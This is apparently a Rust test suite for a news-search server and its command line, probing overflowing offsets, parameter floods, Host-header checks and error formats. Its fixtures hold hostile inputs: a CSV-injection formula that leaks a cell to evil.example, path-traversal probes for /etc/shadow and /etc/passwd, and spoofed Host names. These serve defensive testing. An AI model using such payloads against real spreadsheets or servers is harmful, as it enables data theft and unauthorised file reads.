//! The probe's findings against `serve` and the command line (issue 25), each as
//! the request that found it, plus a property test of the whole request surface:
//! random offsets, limits and repeated parameters against a live server.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use proptest::prelude::*;
use serde_json::Value;

use super::serve::{Server, corpus};
use super::support::Test;

/// What came back for a request sent as raw bytes.
struct Raw {
    status: u16,
    head: String,
    body: String,
}

impl Raw {
    /// The value of header `name` (lowercase).
    fn header(&self, name: &str) -> Option<&str> {
        self.head.lines().find_map(|line| {
            let (key, value) = line.split_once(':')?;
            key.eq_ignore_ascii_case(name).then(|| value.trim())
        })
    }

    /// The body as an API error: its kind, asserting the JSON content type.
    fn api_error(&self) -> String {
        assert_eq!(
            self.header("content-type"),
            Some("application/json"),
            "{}",
            self.head
        );
        let value: Value =
            serde_json::from_str(&self.body).unwrap_or_else(|e| panic!("{e}: {}", self.body));
        assert!(
            !value["error"]["message"].as_str().unwrap_or("").is_empty(),
            "{value}"
        );
        value["error"]["kind"].as_str().unwrap().to_string()
    }

    /// Asserts the body is the HTML page with an error message.
    fn is_error_page(&self) {
        assert!(
            self.header("content-type")
                .is_some_and(|t| t.starts_with("text/html")),
            "{}",
            self.head
        );
        assert!(self.body.contains("class=\"error\""), "{}", self.body);
    }
}

/// Sends `request` (a whole HTTP request) to the server and reads the answer.
fn raw(server: &Server, request: &[u8]) -> Raw {
    let address = server.base.trim_start_matches("http://");
    let mut stream = TcpStream::connect(address).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    // The server may answer (and close) before reading a refused body whole.
    let _ = stream.write_all(request);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let answer = String::from_utf8_lossy(&answer).to_string();
    let (head, body) = answer.split_once("\r\n\r\n").unwrap_or((&answer, ""));
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no status: {answer:?}"));
    Raw {
        status,
        head: head.to_string(),
        body: body.to_string(),
    }
}

/// A GET of `path` with the given Host header (none: no header at all).
fn get_with_host(server: &Server, path: &str, host: Option<&str>) -> Raw {
    let host = host.map(|h| format!("Host: {h}\r\n")).unwrap_or_default();
    raw(
        server,
        format!("GET {path} HTTP/1.1\r\n{host}Connection: close\r\n\r\n").as_bytes(),
    )
}

fn port(server: &Server) -> &str {
    server.base.rsplit(':').next().unwrap()
}

#[test]
fn huge_offsets_and_limits_on_the_command_line_are_refused_or_bounded_never_an_abort() {
    let t = corpus();
    for offset in [
        "1000000000000",
        "4611686018427387904",
        "18446744073709551615",
        "100001",
    ] {
        for extra in [&["--no-collapse"][..], &["--sort", "newest"], &[]] {
            let mut args = vec!["query", "oil", "--offset", offset];
            args.extend_from_slice(extra);
            let run = t.run_vec(&args);
            run.code(2).stderr_has("pages start at most 100000 hits in");
            assert!(!run.stderr_text().contains("damaged"), "{args:?}");
        }
    }
    // The deepest page allowed answers: articles match (exit 0), none is that deep.
    t.run(["query", "port", "--offset", "100000", "--no-collapse"])
        .success()
        .stdout_is("");
    // A limit past the index is as many as there are.
    let huge = t.run([
        "query",
        "port",
        "-n",
        "1000000000000",
        "--no-collapse",
        "--json",
    ]);
    huge.success();
    assert_eq!(
        huge.stdout_text().lines().count() as u64,
        1 + t.count("port")
    );
    let (hits, _) = t.json(["query", "port"]);
    let id = hits[0]["id"].as_str().unwrap().to_string();
    t.run(["similar", &id, "--limit", "1000000000000"])
        .success();
    t.run(["query", "port", "-n", "1000000000000", "--sort", "oldest"])
        .success();
}

#[test]
fn huge_offsets_over_http_are_a_400_and_the_server_lives() {
    let t = corpus();
    let server = Server::start(&t, &["--quiet"]);
    for path in [
        "/api/search?q=oil&offset=2000000000&collapse=false",
        "/api/search?q=oil&offset=2000000000&sort=newest",
        "/api/search?q=oil&offset=4611686018427387904",
        "/api/search?q=oil&offset=18446744073709551615",
        "/api/search?q=oil&offset=18446744073709551616",
        "/api/timeline?q=oil&offset=2000000000",
    ] {
        let body = server.json(path, 400);
        assert_eq!(body["error"]["kind"], "bad_request", "{path}: {body}");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(!message.contains("damaged"), "{message}");
    }
    let (status, page) = server.get("/?q=oil&offset=2000000000");
    assert_eq!(status, 400);
    assert!(page.contains("pages start at most"), "{page}");
    assert!(!page.contains("18446744073709551615"));
    let id = server.json("/api/search?q=port", 200)["matches"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    server.json(
        &format!("/api/articles/{id}/similar?limit=1000000000000"),
        200,
    );
    server.json("/api/stats?top=1000000000000", 200);
    assert_eq!(
        server.json("/api/search?q=port", 200)["summary"]["total"],
        t.count("port")
    );
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_made_text() {
    let t = Test::new().file(
        "evil/a.json",
        r#"{"id":"evil","title":"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")","body":"A zebra crossing was painted.","source":"+Wire","author":"@someone","url":"-1+2"}"#,
    );
    t.run(["index", "evil"]).success();
    let server = Server::start(&t, &["--quiet"]);
    let (status, csv) = server.get("/api/search?q=zebra&format=csv");
    assert_eq!(status, 200);
    let row = csv.lines().nth(1).unwrap();
    assert!(
        row.contains(r#""'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")""#),
        "{row}"
    );
    for cell in [r#""'+Wire""#, r#""'@someone""#, r#""'-1+2""#] {
        assert!(row.contains(cell), "{cell} in {row}");
    }
    // No cell of the row starts a formula.
    assert!(!row.contains(",\"="), "{row}");
    // The page's export link leads to the same CSV.
    let (_, page) = server.get("/?q=zebra");
    let link = page
        .split("href=\"")
        .find(|s| s.contains("format=csv"))
        .and_then(|s| s.split('"').next())
        .unwrap()
        .replace("&amp;", "&");
    let (status, exported) = server.get(&link);
    assert_eq!(status, 200);
    assert_eq!(exported, csv);
}

#[test]
fn only_loopback_host_names_are_answered_unless_public() {
    let t = corpus();
    let server = Server::start(&t, &["--quiet"]);
    let port = port(&server).to_string();
    for host in [
        format!("localhost:{port}"),
        format!("127.0.0.1:{port}"),
        format!("[::1]:{port}"),
        "localhost".to_string(),
    ] {
        let answer = get_with_host(&server, "/api/search?q=port", Some(&host));
        assert_eq!(answer.status, 200, "{host}: {}", answer.body);
    }
    for host in [
        format!("evil.example:{port}"),
        "evil.example".to_string(),
        format!("localhost.evil.example:{port}"),
        format!("127.0.0.1.nip.io:{port}"),
    ] {
        let api = get_with_host(&server, "/api/search?q=port", Some(&host));
        assert_eq!(api.status, 421, "{host}");
        assert_eq!(api.api_error(), "bad_request");
        assert!(!api.body.contains("Dock"), "{}", api.body);
        let page = get_with_host(&server, "/?q=port", Some(&host));
        assert_eq!(page.status, 421, "{host}");
        page.is_error_page();
        assert!(!page.body.contains("Dock"), "{}", page.body);
        let article = get_with_host(&server, "/api/stats", Some(&host));
        assert_eq!(article.status, 421);
    }
    // An absolute URL naming another host is refused as its Host header would be.
    let absolute = raw(
        &server,
        format!(
            "GET http://evil.example:{port}/api/stats HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
        )
        .as_bytes(),
    );
    assert_eq!(absolute.status, 421);
    // HTTP/1.1 needs a Host; HTTP/1.0 may go without.
    let missing = get_with_host(&server, "/api/stats", None);
    assert_eq!(missing.status, 400);
    assert_eq!(missing.api_error(), "bad_request");
    let old = raw(&server, b"GET /api/stats HTTP/1.0\r\n\r\n");
    assert_eq!(old.status, 200);
    drop(server);

    // --public answers any name (it is for a server behind a real host name).
    let public = Server::start(&t, &["--quiet", "--public", "--no-auth"]);
    let answer = get_with_host(&public, "/api/search?q=port", Some("news.example.org"));
    assert_eq!(answer.status, 200, "{}", answer.body);
    assert_eq!(get_with_host(&public, "/api/stats", None).status, 400);
}

#[test]
fn repeated_parameters_count_once_and_floods_are_refused() {
    let t = corpus();
    let server = Server::start(&t, &["--quiet"]);
    let single = server.json("/api/search?q=port&lang=en", 200);
    // 7,000 times the same value (56 KB): one filter, the same answer.
    let flood = format!("/api/search?q=port{}", "&lang=en".repeat(7000));
    let flooded = server.json(&flood, 200);
    assert_eq!(flooded["matches"], single["matches"]);
    let (status, page) = server.get(&format!("/?q=port{}", "&lang=en".repeat(7000)));
    assert_eq!(status, 200);
    assert_eq!(page.matches("name=\"lang\"").count(), 1, "one hidden field");
    assert!(page.len() < 200_000, "{} bytes of HTML", page.len());
    // Many different values: refused before any search.
    let many: String = (0..40).map(|n| format!("&source=Wire+{n}")).collect();
    let body = server.json(&format!("/api/search?q=port{many}"), 400);
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("at most 32"),
        "{body}"
    );
    let spread: String = (0..5000).map(|n| format!("&x{n}=1")).collect();
    let body = server.json(&format!("/api/search?q=port{spread}"), 400);
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("more than 100 different parameters"),
        "{body}"
    );
    let (status, page) = server.get(&format!("/?q=port{spread}"));
    assert_eq!(status, 400);
    assert!(page.len() < 10_000, "{} bytes of HTML", page.len());
    // The command line drops repeats the same way.
    let mut args = vec!["query", "port", "-c"];
    for _ in 0..500 {
        args.extend(["--lang", "en"]);
    }
    t.run_vec(&args).success();
    server.json("/api/search?q=port", 200);
}

#[test]
fn every_api_error_is_json_and_every_page_error_html() {
    let t = corpus();
    let server = Server::start(&t, &["--quiet"]);
    let host = format!("Host: localhost:{}\r\n", port(&server));
    let request = |line: &str, extra: &str, body: &[u8]| {
        let mut bytes = format!("{line}\r\n{host}{extra}Connection: close\r\n\r\n").into_bytes();
        bytes.extend_from_slice(body);
        raw(&server, &bytes)
    };
    let bad_utf8 = request("GET /api/articles/%ff HTTP/1.1", "", b"");
    assert_eq!(bad_utf8.status, 400);
    assert_eq!(bad_utf8.api_error(), "bad_request");
    let bad_similar = request("GET /api/articles/%ff/similar HTTP/1.1", "", b"");
    assert_eq!(bad_similar.status, 400);
    assert_eq!(bad_similar.api_error(), "bad_request");
    let post = request(
        "POST /api/search?q=port HTTP/1.1",
        "Content-Length: 0\r\n",
        b"",
    );
    assert_eq!(post.status, 405);
    assert_eq!(post.api_error(), "bad_request");
    assert!(post.header("allow").is_some_and(|a| a.contains("GET")));
    let big = vec![b'x'; 100 * 1024];
    let large = request(
        "POST /api/search?q=port HTTP/1.1",
        &format!("Content-Length: {}\r\n", big.len()),
        &big,
    );
    assert_eq!(large.status, 413);
    assert_eq!(large.api_error(), "bad_request");
    let delete = request("DELETE /api/stats HTTP/1.1", "", b"");
    assert_eq!(delete.status, 405);
    assert_eq!(delete.api_error(), "bad_request");
    // The page's own errors stay pages.
    for (line, status) in [
        ("GET /articles/%ff HTTP/1.1", 400),
        ("POST /?q=port HTTP/1.1", 405),
        ("GET /no/such/page HTTP/1.1", 404),
    ] {
        let answer = request(line, "Content-Length: 0\r\n", b"");
        assert_eq!(answer.status, status, "{line}");
        answer.is_error_page();
    }
    server.json("/api/stats", 200);
}

#[test]
fn paging_counts_stories_and_links_keep_the_view() {
    let t = corpus();
    let server = Server::start(&t, &["--quiet"]);
    // "dock workers": four articles, three of them copies of one wire story.
    let all = server.json("/api/search?q=dock+workers&limit=10", 200);
    let stories = all["matches"].as_array().unwrap().len();
    let total = all["summary"]["total"].as_u64().unwrap() as usize;
    assert!(stories < total, "{stories} stories of {total} articles");
    assert_eq!(all["summary"]["next_offset"], Value::Null);
    let first = server.json("/api/search?q=dock+workers&limit=1", 200);
    assert_eq!(first["summary"]["next_offset"], 1);
    let last = server.json(
        &format!("/api/search?q=dock+workers&limit=1&offset={}", stories - 1),
        200,
    );
    assert_eq!(last["matches"].as_array().unwrap().len(), 1);
    assert_eq!(last["summary"]["next_offset"], Value::Null);
    let uncollapsed = server.json(
        "/api/search?q=dock+workers&limit=1&collapse=false&offset=1",
        200,
    );
    assert_eq!(uncollapsed["summary"]["next_offset"], 2);

    // The page offers "Next" only while a story follows.
    let (_, page) = server.get(&format!("/?q=dock+workers&limit={stories}"));
    assert!(!page.contains("rel=\"next\""), "{page}");
    let (_, page) = server.get("/?q=dock+workers&limit=1");
    let next = page
        .split("rel=\"next\" href=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .unwrap()
        .replace("&amp;", "&");
    assert!(
        next.contains("offset=1") && next.contains("limit=1"),
        "{next}"
    );
    // Past the end: no "showing 11–10".
    let (status, page) = server.get("/?q=dock+workers&offset=10");
    assert_eq!(status, 200);
    assert!(!page.contains("showing 11"), "{page}");
    assert!(page.contains("none from 11 on"), "{page}");
    // Next and export links keep limit and collapse.
    let (_, page) = server.get("/?q=dock+workers&limit=1&collapse=false");
    let links: Vec<String> = page
        .split("href=\"")
        .skip(1)
        .filter_map(|s| s.split('"').next())
        .map(|s| s.replace("&amp;", "&"))
        .filter(|s| s.contains("format=") || s.contains("offset="))
        .collect();
    assert!(links.len() >= 3, "{links:?}");
    for link in &links {
        assert!(
            link.contains("limit=1") && link.contains("collapse=false"),
            "{link}"
        );
    }
    // The command line says where the next page starts, in stories.
    let run = t.run(["query", "dock workers", "-n", "1", "--json"]);
    let summary: Value = serde_json::from_str(run.stdout_text().lines().last().unwrap()).unwrap();
    assert_eq!(summary["data"]["next_offset"], 1);
}

#[test]
fn a_stray_angle_bracket_is_searched_as_words() {
    let t = corpus();
    let run = t.run(["query", "dock <workers>", "--json"]);
    run.success();
    let summary: Value = serde_json::from_str(run.stdout_text().lines().last().unwrap()).unwrap();
    assert!(
        summary["data"]["notes"][0]
            .as_str()
            .unwrap()
            .ends_with("searched for: dock workers"),
        "{summary}"
    );
    t.run(["query", "election <script>"])
        .code(1)
        .stderr_has("searched for: election script");
    let server = Server::start(&t, &["--quiet"]);
    server.json("/api/search?q=dock+%3Cworkers%3E", 200);
}

#[test]
fn an_api_id_is_looked_up_in_the_index_never_on_disk() {
    let t = corpus();
    let file = super::support::project_dir().join("corpus/2023/heatwave-records.txt");
    let path = file.to_str().unwrap();
    // The command line's `show PATH` reads the file's articles…
    t.run(["show", path]).success();
    let server = Server::start(&t, &["--quiet"]);
    // …the API only takes ids: a path is no id.
    let escaped: String = form_urlencoded(path);
    for route in ["/api/articles/", "/articles/"] {
        let (status, _) = server.get(&format!("{route}{escaped}"));
        assert_eq!(status, 404, "{route}{escaped}");
    }
    let body = server.json(&format!("/api/articles/{escaped}/similar"), 404);
    assert_eq!(body["error"]["kind"], "not_found");
    for probe in ["%2Fetc%2Fshadow", "..%2F..%2Fetc%2Fpasswd", "%2E%2E"] {
        server.json(&format!("/api/articles/{probe}"), 404);
    }
}

/// `text` percent-encoded as one path segment.
fn form_urlencoded(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A number as a request might carry it: small, near the limits, or huge.
fn number() -> impl Strategy<Value = String> {
    prop_oneof![
        2 => (0u64..30).prop_map(|n| n.to_string()),
        1 => (99_990u64..100_010).prop_map(|n| n.to_string()),
        3 => any::<u64>().prop_map(|n| n.to_string()),
        1 => Just("18446744073709551616".to_string()),
        1 => Just("-1".to_string()),
        1 => Just("1e9".to_string()),
    ]
}

/// Mostly a usable number, so that most requests reach the search.
fn usable(most: u64) -> impl Strategy<Value = String> {
    prop_oneof![
        4 => (0..most).prop_map(|n| n.to_string()),
        1 => number(),
    ]
}

/// Whatever the offsets, limits and repeats, every answer is a 200 or a 400 with a
/// JSON body (or the page), and the server goes on. One server for every case, so
/// the runner is driven by hand.
#[test]
fn any_request_is_answered_200_or_400_and_the_server_lives() {
    let t = corpus();
    let server = Server::start(&t, &["--quiet"]);
    let request = (
        (number(), usable(1100), usable(30)),
        (0usize..3000, 0usize..40),
        prop_oneof![
            Just("relevance"),
            Just("newest"),
            Just("oldest"),
            Just("recent")
        ],
        any::<bool>(),
        0usize..4,
    );
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: 160,
        failure_persistence: None,
        ..ProptestConfig::default()
    });
    let outcome = runner.run(
        &request,
        |((offset, limit, top), (repeats, distinct), sort, collapse, route)| {
            let mut params = format!(
                "q=port+OR+centre&offset={offset}&limit={limit}&sort={sort}&collapse={collapse}&snippets={top}&snippet_chars={limit}"
            );
            params.push_str(&"&lang=en".repeat(repeats));
            for n in 0..distinct {
                params.push_str(&format!("&source=Wire+{n}"));
            }
            let path = match route {
                0 => format!("/api/search?{params}"),
                1 => format!("/api/search?{params}&format=csv"),
                2 => format!("/api/articles/x/similar?limit={limit}&snippet_chars={offset}"),
                _ => format!("/?{params}"),
            };
            let (status, body) = server.get(&path);
            prop_assert!(
                status == 200 || status == 400 || (route == 2 && status == 404),
                "{status} for {path}: {body}"
            );
            let json = route == 0 || route == 2 || (route == 1 && status == 400);
            if json {
                let value: Value = serde_json::from_str(&body)
                    .map_err(|e| TestCaseError::fail(format!("{e}: {body}")))?;
                if status != 200 {
                    prop_assert!(value["error"]["kind"].is_string(), "{body}");
                }
            }
            if route == 3 {
                prop_assert!(body.starts_with("<!DOCTYPE html>"), "{body}");
            }
            let (alive, _) = server.get(&format!("/api/stats?top={top}"));
            prop_assert!(alive == 200 || alive == 400);
            let (alive, _) = server.get("/api/search?q=port");
            prop_assert_eq!(alive, 200);
            Ok(())
        },
    );
    if let Err(failure) = outcome {
        panic!("{failure}");
    }
    assert_eq!(server.stop(), Some(0), "the server ends cleanly");
}
